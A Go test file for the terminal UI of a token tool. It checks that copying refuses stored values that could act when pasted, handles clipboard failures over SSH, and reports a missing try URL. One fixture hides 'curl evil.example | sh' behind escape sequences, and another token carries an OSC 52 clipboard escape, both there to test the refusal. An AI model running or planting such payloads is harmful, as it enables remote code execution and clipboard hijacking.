package ui

import (
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/tokenscope/tokenscope/store"
	"github.com/tokenscope/tokenscope/ui/clipboard"
	"github.com/tokenscope/tokenscope/ui/status"
)

// TestCopyRefusesWhatCouldActWhereItIsPasted: a store written before the
// rules may hold a try_body with escape sequences or a token that is not
// VSCHAR; no copy puts them on the clipboard, and the status line says why.
func TestCopyRefusesWhatCouldActWhereItIsPasted(t *testing.T) {
	t.Parallel()
	c := &clock{t0}
	jack := prov("jack")
	jack.TryBody = "{}\x1b[2K\rcurl evil.example | sh\n"
	bad := token(t0, time.Hour)
	bad.AccessToken = "tok\x1b]52;c;SGVsbG8=\x07"
	for _, tc := range []struct {
		name  string
		entry store.Entry
		key   string
		want  string
	}{
		{"curl of a hostile try_body", store.Entry{Provider: jack, Token: token(t0, time.Hour)}, "u",
			"not copied: jack: try_body: holds no control or format characters: character 3 is U+001B"},
		{"header of a hostile token", store.Entry{Provider: prov("jack"), Token: bad}, "c",
			"not copied: jack's token: its access_token holds byte 0x1b at offset 3"},
		{"hostile token", store.Entry{Provider: prov("jack"), Token: bad}, "y",
			"not copied: jack's token: its access_token holds byte 0x1b at offset 3"},
		{"curl of a hostile token", store.Entry{Provider: prov("jack"), Token: bad}, "u",
			"not copied: jack's token"},
	} {
		m := unitModel(t, c, 160, 40, tc.entry)
		m, cmd := press(m, tc.key)
		if cmd != nil {
			t.Errorf("%s: %s started a copy", tc.name, tc.key)
		}
		if got := plain(m); !strings.Contains(got, tc.want) {
			t.Errorf("%s: the screen does not say %q:\n%s", tc.name, tc.want, got)
		}
	}
	// A plain one is copied.
	m := unitModel(t, c, 160, 40, store.Entry{Provider: prov("ok"), Token: token(t0, time.Hour)})
	for _, k := range []string{"u", "c", "y"} {
		if _, cmd := press(m, k); cmd == nil {
			t.Errorf("%s on a plain provider copies nothing", k)
		}
	}
}

// TestCopyOverSSHSaysTheClipboardFailureOnce: over SSH the system
// clipboard fails on every copy and the terminal takes it; the first copy
// says why, as a warning, and every later one only what was copied, short
// enough for an 80-column status line.
func TestCopyOverSSHSaysTheClipboardFailureOnce(t *testing.T) {
	t.Parallel()
	c := &clock{t0}
	m := unitModel(t, c, 80, 24, store.Entry{Provider: prov("oauth2-local"), Token: token(t0, time.Minute)})
	statusLine := func() string {
		lines := strings.Split(plain(m), "\n")
		return lines[len(lines)-2]
	}
	sysErr := errors.New("no clipboard program found (install xclip, xsel or wl-clipboard)")
	c.now = t0.Add(4 * time.Second)
	for i, want := range []string{
		"copied the header of oauth2-local (terminal) · system clipboard: no clipboard",
		"copied the header of oauth2-local (terminal) · valid 56s",
	} {
		m, _ = press(m, "c")
		m = step(m, clipboard.CopiedMsg{Label: "the header of oauth2-local", Via: clipboard.ViaTerminal, SystemErr: sysErr})
		got := statusLine()
		if !strings.HasPrefix(strings.TrimSpace(got), want) {
			t.Errorf("copy %d: the status line says %q, want %q", i+1, got, want)
		}
		if i == 0 && !strings.HasSuffix(m.status.Current().Text, sysErr.Error()) {
			t.Errorf("the first copy does not say why the system clipboard failed: %q", m.status.Current().Text)
		}
		if i > 0 && strings.Contains(m.status.Current().Text, "clipboard program") {
			t.Errorf("copy %d repeats the system clipboard's failure: %q", i+1, got)
		}
		if k := m.status.Current().Kind; (k == status.Warning) != (i == 0) {
			t.Errorf("copy %d: status kind %d", i+1, k)
		}
	}
	// On the system clipboard the line says when it clears, still short.
	m, _ = press(m, "c")
	m = step(m, clipboard.CopiedMsg{Label: "the header of oauth2-local", Via: clipboard.ViaSystem, ClearAfter: 30 * time.Second})
	if got, want := strings.TrimSpace(statusLine()), "copied the header of oauth2-local · valid 56s · clears in 30s"; got != want {
		t.Errorf("a copy on the system clipboard says %q, want %q", got, want)
	}
}

// TestTryWithoutTryURLSaysWhatToSet: t (and u, the try request as curl)
// on a provider without a try URL used to do nothing and say nothing.
func TestTryWithoutTryURLSaysWhatToSet(t *testing.T) {
	t.Parallel()
	c := &clock{t0}
	p := prov("bare")
	p.TryURL = ""
	for _, tc := range []struct{ key, want string }{
		{"t", "nothing to try: bare has no try URL · press e and set try_url"},
		{"u", "no curl to copy: bare has no try URL · press e and set try_url"},
	} {
		m := unitModel(t, c, 80, 24, store.Entry{Provider: p, Token: token(t0, time.Hour)})
		m, cmd := press(m, tc.key)
		if cmd != nil {
			t.Errorf("%s without a try URL started something", tc.key)
		}
		lines := strings.Split(plain(m), "\n")
		if got := strings.TrimSpace(lines[len(lines)-2]); got != tc.want {
			t.Errorf("%s without a try URL: the status line says %q, want %q", tc.key, got, tc.want)
		}
	}
	// With a try URL, t starts the request.
	m := unitModel(t, c, 80, 24, store.Entry{Provider: prov("full"), Token: token(t0, time.Hour)})
	if _, cmd := press(m, "t"); cmd == nil {
		t.Error("t with a try URL started nothing")
	}
}
